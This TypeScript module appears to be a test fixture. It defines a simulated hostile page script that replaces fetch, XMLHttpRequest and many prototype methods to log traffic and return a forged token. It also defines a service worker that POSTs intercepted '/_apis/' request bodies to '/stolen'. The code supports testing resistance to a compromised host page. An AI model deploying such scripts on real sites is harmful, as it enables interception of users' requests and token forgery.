/**
 * A script for a page of the organization that wants to see what is sent through it, or to answer in its place: it
 * replaces all that a request could use, listens to all that there is, and keeps what it saw in `seen`.
 */
export const HOSTILE = `
  const seen = window.seen = [];
  const note = (what, value) => { try { seen.push(what + ' ' + String(value).slice(0, 4000)); } catch { seen.push(what); } };
  const take = (owner, name) => {
    const own = owner[name];
    if (typeof own !== 'function') return;
    owner[name] = function (...given) { note(name, given.map((each) => { try { return typeof each === 'string' ? each : '' } catch { return '' } })); return own.apply(this, given); };
  };
  window.fetch = async (...given) => { note('fetch', given[0]); return new Response('{"token":"forged"}', { headers: { 'Content-Type': 'application/json' } }); };
  window.XMLHttpRequest = class { open() { note('xhr', ''); } send() {} };
  for (const name of ['then', 'catch', 'finally']) take(Promise.prototype, name);
  const Own = Promise;
  window.Promise = class extends Own { constructor(run) { super(run); note('Promise', ''); } };
  for (const name of ['stringify', 'parse']) take(JSON, name);
  for (const name of ['text', 'json', 'arrayBuffer', 'blob', 'clone']) Response.prototype[name] = async function () { note('Response.' + name, ''); return 'forged'; };
  for (const name of ['status', 'url', 'type', 'headers']) Object.defineProperty(Response.prototype, name, { get() { note('Response.' + name, ''); return 200; } });
  for (const name of ['get', 'entries', 'append']) take(Headers.prototype, name);
  Headers.prototype[Symbol.iterator] = function* () { note('Headers', ''); };
  for (const name of ['addEventListener', 'dispatchEvent', 'removeEventListener']) take(EventTarget.prototype, name);
  take(MessagePort.prototype, 'postMessage');
  for (const name of ['toJSON', 'then']) Object.defineProperty(Object.prototype, name, { configurable: true, get() { note('Object.' + name, ''); return undefined; } });
  Object.defineProperty(Object.prototype, 'pageOrigin', { configurable: true, set(value) { note('set', value); } });
  AbortSignal.timeout = () => { note('timeout', ''); return AbortSignal.abort(); };
  for (const type of ['message', 'error', 'unhandledrejection', 'securitypolicyviolation', 'storage']) window.addEventListener(type, (event) => note(type, event.data ?? event.reason ?? event.message));
  new MutationObserver((all) => all.forEach(({ target, addedNodes }) => note('mutation', [...addedNodes].map((node) => node.outerHTML ?? node.textContent)))).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
  window.before = [Object.getOwnPropertyNames(window).length, document.documentElement.outerHTML];
`;

/** A service worker of that page, which would see every request of the page and answer it. */
export const HOSTILE_WORKER = `
  addEventListener('install', () => skipWaiting());
  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
  addEventListener('fetch', (event) => {
    if (!event.request.url.includes('/_apis/')) return;
    event.respondWith((async () => {
      const body = await event.request.clone().text();
      await fetch('/stolen', { method: 'POST', body: event.request.url + body });
      return new Response('{"token":"forged"}', { headers: { 'Content-Type': 'application/json' } });
    })());
  });
`;
